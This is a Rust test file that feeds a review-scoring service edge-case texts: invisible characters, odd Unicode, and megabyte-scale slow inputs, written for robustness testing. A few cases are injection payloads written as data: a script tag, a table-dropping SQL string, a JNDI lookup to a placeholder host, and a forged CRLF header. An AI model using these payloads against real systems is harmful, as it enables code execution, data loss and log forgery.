//! Texts that nobody would write, in good JSON.

use groundswell::event::Reason;
use serde_json::json;

use super::Expected::{Dead, Scored};
use super::{Case, Expected, To};

const EMPTY: Expected = Dead(Reason::EmptyText);

pub fn cases() -> Vec<Case> {
    let rows = [empty(), strange(), long()].into_iter().flatten();
    rows.map(|(name, text, expected)| {
        Case::new(To::Review, format!("text: {name}"), json!({"text": text}).to_string(), expected)
    })
    .collect()
}

type Row = (&'static str, String, Expected);

fn row(name: &'static str, text: &str, expected: Expected) -> Row {
    (name, text.to_owned(), expected)
}

/// Nothing to score, however it is dressed.
fn empty() -> Vec<Row> {
    vec![
        row("empty", "", Dead(Reason::Missing)),
        row("a space", " ", EMPTY),
        row("white space of every kind", " \t\r\n\u{a0}\u{2003}\u{3000}\u{2028}\u{2029}\u{85}", EMPTY),
        row("NUL", "\0", EMPTY),
        row("control characters", "\u{1}\u{7}\u{8}\u{1b}\u{7f}\u{9b}", EMPTY),
        row("zero-width characters", "\u{200b}\u{200c}\u{200d}\u{2060}\u{feff}", EMPTY),
        row("direction marks", "\u{202a}\u{202b}\u{202c}\u{202d}\u{202e}\u{2066}\u{2069}\u{200e}\u{200f}", EMPTY),
        row("variation selectors", "\u{fe00}\u{fe0f}\u{e0100}", EMPTY),
        row("tag characters", "\u{e0041}\u{e007f}", EMPTY),
        row("soft hyphens", "\u{ad}\u{ad}\u{ad}", EMPTY),
        row("Hangul fillers", "\u{3164}\u{ffa0}\u{115f}", EMPTY),
        ("a megabyte of spaces", " ".repeat(1_000_000), EMPTY),
        ("300,000 zero-width spaces", "\u{200b}".repeat(300_000), EMPTY),
    ]
}

fn strange() -> Vec<Row> {
    vec![
        row("one letter", "a", Scored),
        row("a full stop", ".", Scored),
        row("only emoji", "👍👍😡", Scored),
        row("an emoji of many parts", "👩‍👩‍👧‍👦🏳️‍🌈", Scored),
        row("a flag", "🇩🇪", Scored),
        row("a direction override within", "good \u{202e}dab\u{202c} good", Scored),
        row("combining marks alone", "\u{301}\u{302}\u{303}", Scored),
        row("a private character", "\u{e000}", Scored),
        row("a character that is none", "\u{fffe}\u{10ffff}", Scored),
        row("the replacement character", "\u{fffd}", Scored),
        row("an unassigned character", "\u{378}", Scored),
        row("a musical control within", "a\u{1d173}b", Scored),
        row("a terminal's escape sequence", "\u{1b}[31mred\u{1b}[0m\u{7}", Scored),
        row("a script", "<script>alert(1)</script>", Scored),
        row("a query", "'; DROP TABLE reviews; --", Scored),
        row("a template", "{{7*7}} ${jndi:ldap://x.example/a} %s%n", Scored),
        row("a model's own tokens", "[CLS] good [SEP] [PAD] [MASK] [UNK]", Scored),
        row("markers of redaction", "[phone] [email] [identity_card]", Scored),
        row("a forged header", "a\r\ngroundswell.reason: forged\r\n\r\n", Scored),
        row("JSON within the text", "{\"sentiment\": {\"label\": \"positive\"}}", Scored),
    ]
}

/// Close to the largest payload, each made to be slow somewhere.
fn long() -> Vec<Row> {
    let mega = |part: &str| part.repeat(1_000_000 / part.len());
    vec![
        ("a megabyte of one letter", mega("a"), Scored),
        ("a megabyte of one Chinese character", mega("好"), Scored),
        ("a megabyte of one emoji", mega("😀"), Scored),
        ("a megabyte of one-letter words", mega("a "), Scored),
        ("a megabyte of one sentence", mega("The battery died after the update. "), Scored),
        ("a megabyte of digits", mega("7"), Scored),
        ("100,000 digits and spaces", "4 ".repeat(50_000), Scored),
        ("a megabyte of phone numbers", mega("13812345678 "), Scored),
        ("a megabyte of almost e-mail addresses", mega("a@"), Scored),
        ("a megabyte of dots and letters", mega("a."), Scored),
        ("100,000 bytes of almost IP addresses", "1.".repeat(50_000), Scored),
        ("a megabyte of colons", mega("f:"), Scored),
        ("a megabyte of almost URLs", mega("http://"), Scored),
        ("a URL of a megabyte", format!("https://x.example/?a={}", "b&c=".repeat(200_000)), Scored),
        ("a megabyte of slashes", mega("/"), Scored),
        ("a megabyte of hyphens", mega("-"), Scored),
        ("a megabyte of markers", mega("[phone]"), Scored),
        ("a megabyte of open brackets", mega("["), Scored),
        ("a letter with 400,000 combining marks", format!("a{}", "\u{301}".repeat(400_000)), Scored),
        ("marks in the worst order", format!("a{}", "\u{301}\u{316}".repeat(200_000)), Scored),
        ("full-width digits", mega("７"), Scored),
        ("spaces, then a letter", format!("{}a", " ".repeat(1_000_000)), Scored),
    ]
}
